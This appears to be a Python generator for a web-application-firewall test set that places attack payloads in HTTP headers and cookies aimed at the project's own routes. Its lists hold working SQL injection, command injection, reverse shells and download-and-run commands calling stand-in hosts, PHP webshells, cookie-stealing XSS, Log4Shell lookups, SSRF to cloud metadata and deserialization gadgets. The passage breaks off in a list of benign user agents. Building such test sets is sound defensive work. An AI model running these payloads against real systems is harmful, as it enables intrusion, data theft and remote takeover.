"""Blind WAF test set "twentyfifth": every attack family carried in request HEADERS and COOKIES.

Attackers and scanners rarely limit themselves to the query string and the body: they spray the User-Agent,
Referer, X-Forwarded-For / X-Real-IP / Forwarded (which applications log and store), custom X- headers
(X-Api-Version of Log4Shell fame), Accept-Language, Origin, cookie values and cookie names, Authorization
values of non-Bearer schemes and the parameters of a JSON request's Content-Type (the Struts2 vector). Each
attack payload here is sent three times, in three of those places chosen by rotation, to our real routes
(/api/users, /admin/users/search, /me/, /oauth/token, /auth/slack/login). Header values cannot carry raw CR,
LF or NUL, so payloads are written without them (or with them percent-encoded where an application decodes).

The benign half sends what real browsers, crawlers, SDKs, proxies and analytics tools put in the same headers
and cookies: long user agents, referers with long query strings (search engines, e-mail trackers, UTM links,
OAuth redirects), X-Forwarded-For chains with IPv6, Forwarded with quoted values, Accept-Language lists,
consent / analytics / A-B test / session / CSRF cookies with JSON-ish, base64 and URL-encoded values.

Authorship and independence: written for this repository in one pass from general knowledge of each
technique and of real traffic. No WAF rule, ruleset file or regression test, public payload list or other
generator's payloads were read, and no search tool was used for payloads. Measured once on the finished set;
payloads were not changed after seeing what the WAF blocks. Deterministic (no randomness, no clock).
"""

from __future__ import annotations

import base64
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any

from .family_gen import _get, _json, _query

SET = "twentyfifth"

COVER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
]

ORDINARY_COOKIES = [
    ("_ga", "GA1.1.1843306591.1717411200"),
    ("theme", "dark"),
    ("locale", "en-GB"),
    ("tz", "Europe%2FBerlin"),
    ("_gid", "GA1.1.77312094.1718000000"),
]

# ---------------------------------------------------------------------------------------------------- attacks

SQLI: list[tuple[str, str]] = [
    ("tautology", "' OR '1'='1"),
    ("tautology", "' or 1=1-- -"),
    ("tautology", "\") or (\"x\"=\"x"),
    ("tautology", "admin'--"),
    ("tautology", "' OR 'x' LIKE 'x"),
    ("tautology", "\"or\"1\"=\"1"),
    ("tautology", "') OR ('1'='1'--"),
    ("tautology", "admin' #"),
    ("tautology", "'/**/OR/**/1=1/**/--"),
    ("tautology", "' oR 1=1 #"),
    ("tautology", "' OR 1=1 LIMIT 1 OFFSET 0-- "),
    ("boolean", "' AND 7533=7533 AND 'Xz'='Xz"),
    ("boolean", "1) AND 8451=8451 AND (3320=3320"),
    ("boolean", "1 AND 1=2"),
    ("boolean", "' AND substr(@@version,1,1)='5"),
    ("boolean", "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--"),
    ("boolean", "' AND EXISTS(SELECT * FROM users WHERE username='admin')--"),
    ("boolean", "1' RLIKE (SELECT (CASE WHEN (4120=4120) THEN 1 ELSE 0x28 END))-- x"),
    ("boolean", "session' AND 'a'='a' AND (SELECT 1)=1 AND '1"),
    ("boolean", "' and (select sqlite_version())>'0"),
    ("probe", "1'\""),
    ("probe", "test'\"--"),
    ("time", "1' AND SLEEP(5)#"),
    ("time", "'||(SELECT pg_sleep(10))||'"),
    ("time", "1;WAITFOR DELAY '0:0:5'--"),
    ("time", "Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(8))x) AND 'a'='a"),
    ("time", "1 OR BENCHMARK(5000000,MD5(1))"),
    ("time", "en-US' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("time", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
    ("time", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))abc)"),
    ("time", "1' and sleep(5) and '1'='1"),
    ("time", "' OR SLEEP(5)='"),
    ("time", "1;SELECT pg_sleep(5)"),
    ("time", "1 waitfor delay '0:0:10'"),
    ("time", "1.2.3.4' AND SLEEP(5) AND '1'='1"),
    ("error", "' AND 1=CONVERT(int,(SELECT @@version))--"),
    ("error", "127.0.0.1' AND extractvalue(1,concat(0x7e,(select user()),0x7e)) AND '1'='1"),
    ("error", "1' AND updatexml(1,concat(0x3a,version()),1)-- "),
    ("error", "'||UTL_INADDR.get_host_name((SELECT banner FROM v$version WHERE rownum=1))||'"),
    ("error", "' OR 1 IN (SELECT @@version)--"),
    ("error", "' AND 1=CAST((SELECT current_user) AS int)--"),
    ("error", "X' AND (SELECT 6140 FROM(SELECT COUNT(*),CONCAT(0x7176,(SELECT (ELT(6140=6140,1))),0x7178,"
              "FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- pJbd"),
    ("error", "'+(select convert(int,@@servername))+'"),
    ("error", "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- "),
    ("error", "1' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)-- "),
    ("union", "' UNION SELECT NULL,NULL,NULL-- -"),
    ("union", "' UNION ALL SELECT table_name,2 FROM information_schema.tables--"),
    ("union", "-1 UNION SELECT username,password FROM users"),
    ("union", "' UNION SELECT 1,group_concat(schema_name),3 FROM information_schema.schemata-- -"),
    ("union", "' UNION SELECT sql FROM sqlite_master--"),
    ("union", "1'/*!50000UNION*//*!50000SELECT*/1,2-- "),
    ("union", "' UNION SELECT load_file('/etc/passwd')-- "),
    ("union", "' GROUP BY 1,2,3-- -"),
    ("union", "' ORDER BY 10--"),
    ("stacked", "'; DROP TABLE sessions;--"),
    ("stacked", "';exec master..xp_cmdshell 'ping 10.0.0.1'--"),
    ("stacked", "'; COPY (SELECT '') TO PROGRAM 'id'--"),
    ("stacked", "'; SHUTDOWN; --"),
    ("stacked", "' INTO OUTFILE '/var/www/html/s.php'-- "),
    ("insert-ctx", "127.0.0.1', (SELECT version()))-- -"),
    ("insert-ctx", "' , (select password from users limit 1), '0')#"),
    ("encoded", "'%20OR%201=1--"),
    ("encoded", "%27%20UNION%20SELECT%20password%20FROM%20users--"),
]

RCE: list[tuple[str, str]] = [
    ("shellshock", "() { :; }; /bin/bash -c 'id'"),
    ("shellshock", "() { :;}; echo; /bin/cat /etc/passwd"),
    ("shellshock", "() { _; } >_[$($())] { id; }"),
    ("shellshock", "() { :; }; curl http://198.51.100.7/x | sh"),
    ("shellshock", "() { :; }; /usr/bin/wget -qO- http://198.51.100.7/k"),
    ("chain", ";id"),
    ("chain", "| id"),
    ("chain", "&& whoami"),
    ("chain", "; cat /etc/passwd"),
    ("chain", "|| ping -c 3 203.0.113.5"),
    ("chain", "'; ls -la /; echo '"),
    ("chain", "\"; id; echo \""),
    ("chain", "|/usr/bin/id"),
    ("chain", "; env"),
    ("chain", "127.0.0.1; cat /etc/shadow"),
    ("chain", "; /bin/sh -c id"),
    ("chain", "; find / -perm -4000 2>/dev/null"),
    ("chain", "; crontab -l"),
    ("chain", "; sleep 10 #"),
    ("chain", "; chmod 777 /tmp/x && /tmp/x"),
    ("subst", "$(id)"),
    ("subst", "`uname -a`"),
    ("subst", "$(sleep 7)"),
    ("subst", "$(cat /proc/self/environ)"),
    ("subst", "x`id`x"),
    ("subst", "$(whoami)@mail.example.org"),
    ("oob", "`nslookup $(whoami).oob.example.net`"),
    ("oob", "$(dig +short $(id -u).oob.example.net)"),
    ("oob", "1.1.1.1 && curl http://198.51.100.9/?h=$(hostname)"),
    ("oob", ";curl -d @/etc/passwd http://198.51.100.9/"),
    ("download", "$(curl -s http://198.51.100.9/s.sh|bash)"),
    ("download", "; wget http://198.51.100.9/b -O /tmp/b; chmod +x /tmp/b; /tmp/b"),
    ("download", "a;/bin/busybox wget http://198.51.100.9/m -O-|sh"),
    ("download", "| sh -c \"$(curl -fsSL http://198.51.100.9/i)\""),
    ("download", "; tftp -i 198.51.100.9 GET x.exe"),
    ("revshell", "; bash -i >& /dev/tcp/198.51.100.20/4444 0>&1"),
    ("revshell", "| nc -e /bin/sh 198.51.100.20 4444"),
    ("revshell", ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.20 9001 >/tmp/f"),
    ("revshell", ";perl -e 'use Socket;$i=\"198.51.100.20\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                 "connect(S,sockaddr_in(53,inet_aton($i)));exec(\"/bin/sh -i\");'"),
    ("revshell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.20\",443));"
                 "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"),
    ("evasion", ";cat${IFS}/etc/passwd"),
    ("evasion", ";{cat,/etc/passwd}"),
    ("evasion", ";c'a't /e't'c/pa's'swd"),
    ("evasion", ";/???/?at /???/p?ss??"),
    ("evasion", ";uname${IFS}-a"),
    ("evasion", "; echo aWQ= | base64 -d | sh"),
    ("evasion", "%0aid"),
    ("evasion", "%0a/bin/cat%20/etc/passwd"),
    ("evasion", ";awk 'BEGIN{system(\"id\")}'"),
    ("windows", "& ping -n 5 127.0.0.1 &"),
    ("windows", "| type C:\\Windows\\win.ini"),
    ("windows", "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString("
                "'http://198.51.100.9/a.ps1')\""),
    ("windows", "| cmd.exe /c dir"),
    ("windows", "& net user hacker P@ssw0rd1 /add &"),
    ("windows", "|| certutil -urlcache -split -f http://198.51.100.9/x.exe %TEMP%\\x.exe"),
    ("windows", "& powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA"),
]

PHP: list[tuple[str, str]] = [
    ("tag", "<?php system($_GET['c']); ?>"),
    ("tag", "<?php echo shell_exec('id'); ?>"),
    ("tag", "<?=`id`?>"),
    ("tag", "<?php phpinfo(); ?>"),
    ("tag", "<? passthru(\"uname -a\"); ?>"),
    ("tag", "<?php eval(base64_decode('ZWNobyAnaGknOw==')); ?>"),
    ("tag", "<?php @eval($_POST['x']);?>"),
    ("tag", "<?php file_put_contents('s.php','<?php system($_GET[0]);');?>"),
    ("tag", "<script language=\"php\">system(\"id\");</script>"),
    ("tag", "<?php highlight_file('/etc/passwd');?>"),
    ("tag", "<?php echo file_get_contents('/etc/passwd');?>"),
    ("tag", "<?php $s=str_rot13('flfgrz');$s('id');?>"),
    ("tag", "<?php ($_=@$_GET[2]).@$_($_POST[1]);?>"),
    ("tag", "<?php var_dump(scandir('/'));?>"),
    ("tag", "<?php $f=$_FILES['f'];move_uploaded_file($f['tmp_name'],'x.php');?>"),
    ("tag", "%3C%3Fphp%20system%28%27id%27%29%3B%3F%3E"),
    ("wrapper", "php://filter/convert.base64-encode/resource=index.php"),
    ("wrapper", "php://input"),
    ("wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
    ("wrapper", "expect://id"),
    ("wrapper", "phar:///tmp/upload.jpg/test.txt"),
    ("wrapper", "zip://uploads/a.zip#shell.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=/etc/passwd"),
    ("wrapper", "-d allow_url_include=1 -d auto_prepend_file=php://input"),
    ("object", "O:8:\"stdClass\":1:{s:4:\"test\";s:2:\"id\";}"),
    ("object", "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:9:\"\\0*\\0events\";i:0;}"),
    ("object", "a:2:{i:0;O:7:\"Monolog\":0:{}i:1;s:4:\"exec\";}"),
    ("object", "O:+8:\"Exploit1\":1:{s:3:\"cmd\";s:2:\"id\";}"),
    ("object", "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}"),
    ("object", "O:10:\"SoapClient\":1:{s:8:\"location\";s:25:\"http://198.51.100.9/soap\";}"),
    ("func", "assert('system(\"id\")')"),
    ("func", "${@phpinfo()}"),
    ("func", "{${system('id')}}"),
    ("func", "system('cat /etc/passwd');"),
    ("func", "eval($_REQUEST['cmd']);"),
    ("func", "preg_replace('/.*/e','system(\"id\")','')"),
    ("func", "create_function('','system(\"id\");')"),
    ("func", "call_user_func('system','id')"),
    ("func", "array_map('system',array('id'))"),
    ("func", "include($_GET['page']);"),
    ("func", "proc_open('id',array(),$p);"),
    ("func", "popen('id','r');"),
    ("func", "pcntl_exec('/bin/sh');"),
    ("func", "$_GET[a]($_GET[b])"),
    ("func", "ini_set('allow_url_include','1');"),
    ("func", "'.system('id').'"),
    ("func", "\";system('id');//"),
    ("func", "chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)"),
    ("func", "$x=$_SERVER['HTTP_USER_AGENT'];eval($x);"),
    ("func", "file_get_contents('php://input')"),
]

XSS: list[tuple[str, str]] = [
    ("script", "<script>alert(1)</script>"),
    ("script", "\"><script>alert(document.domain)</script>"),
    ("script", "<script src=https://xss.example.net/x.js></script>"),
    ("script", "\"><script src=//xss.example.net/b></script>"),
    ("script", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script", "</script><script>alert(1)</script>"),
    ("script", "<svg><script>alert&#40;1&#41;</script>"),
    ("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("event", "<img src=x onerror=alert(1)>"),
    ("event", "<svg/onload=alert(1)>"),
    ("event", "<svg onload=fetch('//198.51.100.9/?c='+document.cookie)>"),
    ("event", "'\"><img src=x onerror=prompt(1)>"),
    ("event", "<body onload=alert('XSS')>"),
    ("event", "<details open ontoggle=alert(1)>"),
    ("event", "<input autofocus onfocus=alert(1)>"),
    ("event", "<marquee onstart=alert(1)>"),
    ("event", "<video><source onerror=alert(1)>"),
    ("event", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("event", "<img src=x onerror=&#97;lert(1)>"),
    ("event", "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("event", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event", "<x onclick=alert(1)>click"),
    ("event", "<img src=\"x\" onerror=\"document.location='https://198.51.100.9/?'+document.cookie\">"),
    ("event", "<isindex type=image src=1 onerror=alert(1)>"),
    ("event", "<textarea autofocus onfocus=alert(1)>"),
    ("event", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("event", "<body onpageshow=alert(1)>"),
    ("event", "<select onfocus=alert(1) autofocus>"),
    ("attr", "\"onmouseover=\"alert(1)"),
    ("attr", "' onfocus='alert(1)' autofocus='"),
    ("attr", "\"-alert(1)-\""),
    ("attr", "';alert(String.fromCharCode(88,83,83))//"),
    ("uri", "javascript:alert(1)"),
    ("uri", "<iframe src=\"javascript:alert(1)\">"),
    ("uri", "<a href=\"javascript:alert(1)\">x</a>"),
    ("uri", "<object data=\"javascript:alert(1)\">"),
    ("uri", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    ("uri", "data:text/html,<script>alert(1)</script>"),
    ("uri", "<form action=javascript:alert(1)><input type=submit>"),
    ("uri", "<div style=\"background:url(javascript:alert(1))\">"),
    ("uri", "<a href=\" &#14; javascript:alert(1)\">x</a>"),
    ("markup", "<style>@import'//xss.example.net/a.css';</style>"),
    ("markup", "<link rel=import href=//xss.example.net/x>"),
    ("markup", "<base href=\"//xss.example.net/\">"),
    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</scRipt/--!>"
                 "<sVg/oNloAd=alert()//>"),
]

GENERIC: list[tuple[str, str]] = [
    ("node", "require('child_process').exec('id')"),
    ("node", "process.mainModule.require('child_process').execSync('id').toString()"),
    ("node", "global.process.mainModule.constructor._load('child_process').exec('id')"),
    ("node", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("node", "this.constructor.constructor('return process')().exit()"),
    ("node", "res.end(require('fs').readFileSync('/etc/passwd'))"),
    ("node", "new Function('return process.env')()"),
    ("node", "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')"),
    ("proto", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto", "__proto__[admin]=1"),
    ("proto", "constructor[prototype][polluted]=yes"),
    ("proto", "{\"constructor\":{\"prototype\":{\"shell\":\"/bin/sh\"}}}"),
    ("proto", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process')"
              ".execSync('id');x\"}}"),
    ("proto", "__proto__.toString=1"),
    ("proto", "a[__proto__][NODE_OPTIONS]=--require /proc/self/environ"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("ssrf", "http://127.0.0.1:2375/containers/json"),
    ("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ("ssrf", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ssrf", "http://0x7f000001/admin"),
    ("ssrf", "dict://127.0.0.1:11211/stats"),
    ("ssrf", "http://2130706433/server-status"),
    ("ssrf", "http://localhost:8500/v1/agent/self"),
    ("ssrf", "http://169.254.170.2/v2/credentials"),
    ("ssrf", "http://100.100.100.200/latest/meta-data/"),
    ("ssrf", "ldap://127.0.0.1:389/dc=internal"),
    ("python", "__import__('os').system('id')"),
    ("python", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("python", "().__class__.__bases__[0].__subclasses__()"),
    ("python", "exec(\"import subprocess;subprocess.call(['id'])\")"),
    ("python", "os.popen('id').read()"),
    ("python", "subprocess.check_output(['cat','/etc/passwd'])"),
    ("python", "pickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))"),
    ("python", "getattr(__import__('os'),'system')('id')"),
    ("ruby", "#{`id`}"),
    ("ruby", "Kernel.exec('id')"),
    ("ruby", "IO.popen('id').read"),
    ("ruby", "%x(id)"),
    ("ruby", "!ruby/object:Gem::Requirement"),
    ("ruby", "eval(\"`id`\")"),
    ("ruby", "Marshal.load(Base64.decode64(params[:d]))"),
    ("ruby", "open('|id').read"),
]

JAVA: list[tuple[str, str]] = [
    ("log4j", "${jndi:ldap://198.51.100.9:1389/a}"),
    ("log4j", "${jndi:rmi://198.51.100.9/Exploit}"),
    ("log4j", "${jndi:dns://oob.example.net/x}"),
    ("log4j", "${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}"),
    ("log4j", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.9/a}"),
    ("log4j", "${jndi:ldap://${env:USER}.oob.example.net/a}"),
    ("log4j", "${jndi:ldap://${sys:java.version}.oob.example.net/}"),
    ("log4j", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.9/a}"),
    ("log4j", "${jndi:${lower:l}${lower:d}a${lower:p}://oob.example.net/a}"),
    ("log4j", "${jndi:ldaps://198.51.100.9/a}"),
    ("log4j", "${jndi:iiop://198.51.100.9/a}"),
    ("log4j", "%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D"),
    ("log4j", "${jnd${upper:i}:ldap://198.51.100.9/x}"),
    ("log4j", "${env:AWS_SECRET_ACCESS_KEY}"),
    ("log4j", "${${upper:j}${upper:n}${upper:d}${upper:i}:rmi://198.51.100.9/o}"),
    ("ognl", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
             "(#_memberAccess?(#_memberAccess=#dm):1).(#cmd='id').(#p=new java.lang.ProcessBuilder("
             "{'/bin/sh','-c',#cmd})).(#p.start())}"),
    ("ognl", "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}"),
    ("ognl", "${@java.lang.Runtime@getRuntime().exec(\"id\")}"),
    ("ognl", "%{(#ctx=#attr['struts.valueStack'].context).(@java.lang.System@getProperty('user.dir'))}"),
    ("spel", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("spel", "#{T(java.lang.System).getenv()}"),
    ("spel", "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id')"
             ".getInputStream())}"),
    ("spel", "new java.lang.ProcessBuilder({'id'}).start()"),
    ("spel", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)}"),
    ("el", "${pageContext.request.getSession().setAttribute(\"a\",\"b\")}"),
    ("el", "${applicationScope}"),
    ("el", "#{facesContext.getExternalContext().getRequest()}"),
    ("el", "#{request.getClass().getClassLoader()}"),
    ("el", "${''.getClass().forName('java.lang.Runtime')}"),
    ("deser", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZM"
              "amF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMu"),
    ("deser", "aced0005737200116a6176612e7574696c2e486173684d6170"),
    ("deser", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://198.51.100.9/a\","
              "\"autoCommit\":true}"),
    ("deser", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://198.51.100.9/x\","
              "\"autoCommit\":true}]"),
    ("deser", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
              "<void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    ("deser", "org.apache.commons.collections.functors.InvokerTransformer"),
    ("deser", "{\"@class\":\"ch.qos.logback.core.db.DriverManagerConnectionSource\","
              "\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://198.51.100.9/x.sql'\"}"),
    ("deser", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface>"
              "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\">"),
    ("spring", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
    ("spring", "class.classLoader.URLs[0]=jar:http://198.51.100.9/x.jar!/"),
]

LFI: list[tuple[str, str]] = [
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..%2f..%2f..%2fetc%2fpasswd"),
    ("traversal", "....//....//....//etc/passwd"),
    ("traversal", "..\\..\\..\\windows\\win.ini"),
    ("traversal", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("traversal", "../../../../proc/self/environ"),
    ("traversal", "..%252f..%252f..%252fetc%252fpasswd"),
    ("traversal", "../../../../var/log/nginx/access.log"),
    ("traversal", "..%c0%af..%c0%afetc%c0%afpasswd"),
    ("traversal", "/../../../../../../root/.ssh/id_rsa"),
    ("traversal", "../../../../../etc/hosts%00.jpg"),
    ("traversal", "..;/..;/WEB-INF/web.xml"),
    ("absolute", "/etc/passwd"),
    ("absolute", "/proc/self/cmdline"),
    ("absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("absolute", "file:///etc/passwd"),
]

SSTI: list[tuple[str, str]] = [
    ("jinja", "{{7*7}}"),
    ("jinja", "{{config.items()}}"),
    ("jinja", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("jinja", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}"),
    ("jinja", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("jinja", "{{lipsum.__globals__.os.popen('id').read()}}"),
    ("other", "${7*7}"),
    ("other", "<%= 7*7 %>"),
    ("other", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("other", "{php}echo `id`;{/php}"),
]

RFI: list[tuple[str, str]] = [
    ("url", "http://198.51.100.9/shell.txt?"),
    ("url", "https://evil.example.net/c99.txt?"),
    ("url", "ftp://198.51.100.9/pub/r57.txt"),
    ("unc", "\\\\198.51.100.9\\share\\shell.php"),
    ("url", "http://198.51.100.9/x.php%00"),
    ("url", "//evil.example.net/inc.txt??"),
    ("url", "http://198.51.100.9/backdoor.txt?cmd=id&"),
]

FAMILIES: list[tuple[str, list[tuple[str, str]]]] = [
    ("sqli", SQLI), ("rce", RCE), ("php", PHP), ("xss", XSS), ("generic", GENERIC),
    ("java", JAVA), ("lfi", LFI), ("ssti", SSTI), ("rfi", RFI),
]

PLACEMENTS = ["user-agent", "referer", "x-forwarded-for", "x-real-ip", "forwarded", "x-custom",
              "accept-language", "origin", "cookie-value", "cookie-name", "authorization", "content-type"]
CUSTOM_HEADERS = ["X-Api-Version", "X-Client-Version", "X-Originating-IP", "X-Tenant-Id", "X-Device-Id"]
COOKIE_NAMES = ["prefs", "session_hint", "last_search", "tracking_id", "ab_bucket"]


def _route(i: int, need_json: bool) -> dict[str, Any]:
    """One of our routes, as a plain browser/API request; a JSON POST when the placement needs one."""
    if need_json:
        if i % 2:
            return _json("/oauth/token", {"grant_type": "client_credentials", "scope": "users:read"})
        return _json("/api/users", {"name": "Dana Smith", "email": "dana.smith@example.com"})
    k = i % 5
    if k == 0:
        return _get(_query("/api/users", [("page", "2"), ("per_page", "50")]))
    if k == 1:
        return _get(_query("/admin/users/search", [("q", "smith"), ("active", "true")]))
    if k == 2:
        return _get("/me/")
    if k == 3:
        return _json("/oauth/token", {"grant_type": "client_credentials", "scope": "users:read"})
    return _get(_query("/auth/slack/login", [("next", "/me/")]))


def _base_headers(rec: dict[str, Any], i: int) -> dict[str, str]:
    headers = {"User-Agent": COVER_UAS[i % len(COVER_UAS)], "Accept": rec["headers"]["Accept"],
               "Accept-Language": "en-US,en;q=0.9"}
    if "Content-Type" in rec["headers"]:
        headers["Content-Type"] = rec["headers"]["Content-Type"]
    return headers


def _cookie_jar(extra: str, i: int) -> str:
    first = [f"{n}={v}" for n, v in ORDINARY_COOKIES[: 2 + i % 3]]
    return "; ".join([*first[:1], extra, *first[1:]])


def _place(headers: dict[str, str], where: str, payload: str, i: int) -> str:
    """Put the payload into one header or cookie; returns the placement label."""
    v = i % 3
    if where == "user-agent":
        headers["User-Agent"] = payload if v else f"Mozilla/5.0 (compatible; {payload})"
        return "header:User-Agent"
    if where == "referer":
        if v == 0:
            headers["Referer"] = "https://www.google.com/search?q=" + urllib.parse.quote(payload, safe="")
        elif v == 1:
            headers["Referer"] = payload
        else:
            headers["Referer"] = "https://app.example.com/dashboard?tab=" + payload
        return "header:Referer"
    if where == "x-forwarded-for":
        headers["X-Forwarded-For"] = payload if v == 0 else f"203.0.113.{10 + i % 200}, {payload}"
        return "header:X-Forwarded-For"
    if where == "x-real-ip":
        headers["X-Real-IP"] = payload
        return "header:X-Real-IP"
    if where == "forwarded":
        headers["Forwarded"] = (f"for={payload};proto=https" if v == 0 else
                                f"for=198.51.100.17;host=\"{payload}\";proto=https" if v == 1 else
                                f"for=\"{payload}\"")
        return "header:Forwarded"
    if where == "x-custom":
        name = CUSTOM_HEADERS[i % len(CUSTOM_HEADERS)]
        headers[name] = payload
        return f"header:{name}"
    if where == "accept-language":
        headers["Accept-Language"] = payload if v == 0 else f"en-US,en;q=0.9,{payload}"
        return "header:Accept-Language"
    if where == "origin":
        headers["Origin"] = payload if v == 0 else f"https://app.example.com{payload}"
        return "header:Origin"
    if where == "cookie-value":
        name = COOKIE_NAMES[i % len(COOKIE_NAMES)]
        value = payload.replace(";", "%3B") if v else urllib.parse.quote(payload, safe="")
        headers["Cookie"] = _cookie_jar(f"{name}={value}", i)
        return f"cookie:{name}"
    if where == "cookie-name":
        name = urllib.parse.quote(payload, safe="!#$%&'()*+-./:<>?@[]^_`{|}~\"\\")
        headers["Cookie"] = _cookie_jar(f"{name}=1", i)
        return "cookie-name"
    if where == "authorization":
        k = i % 4
        if k == 0:
            headers["Authorization"] = "Basic " + payload
        elif k == 1:
            headers["Authorization"] = f"Token token=\"{payload}\""
        elif k == 2:
            headers["Authorization"] = (f"Digest username=\"{payload}\", realm=\"api\", "
                                        "nonce=\"dcd98b7102dd2f0e8b11d0f6\", uri=\"/api/users\", "
                                        "response=\"6629fae49393a05397450978507c4ef1\"")
        else:
            creds = base64.b64encode(f"admin:{payload}".encode()).decode()
            headers["Authorization"] = "Basic " + creds
        return "header:Authorization"
    if where == "content-type":
        headers["Content-Type"] = (f"application/json; profile=\"{payload}\"" if v == 0 else
                                   f"application/json; charset=utf-8; version={payload}" if v == 1 else
                                   f"application/json;{payload}")
        return "header:Content-Type"
    raise ValueError(where)


def attacks() -> Iterator[dict[str, Any]]:
    counter = 0
    for family, payloads in FAMILIES:
        n = 0
        for sub, payload in payloads:
            for k in range(3):
                where = PLACEMENTS[(counter * 7 + k * 5) % len(PLACEMENTS)]
                rec = _route(counter + k, where == "content-type")
                headers = _base_headers(rec, counter + k)
                placement = _place(headers, where, payload, counter + k)
                n += 1
                yield {**rec, "headers": headers, "id": f"{SET}-{family}-{n:04d}", "category": family,
                       "placement": placement, "sub": sub, "payload": payload}
            counter += 1


# ---------------------------------------------------------------------------------------------------- benign

BENIGN_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.2592.87",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.165 "
    "Mobile Safari/537.36",
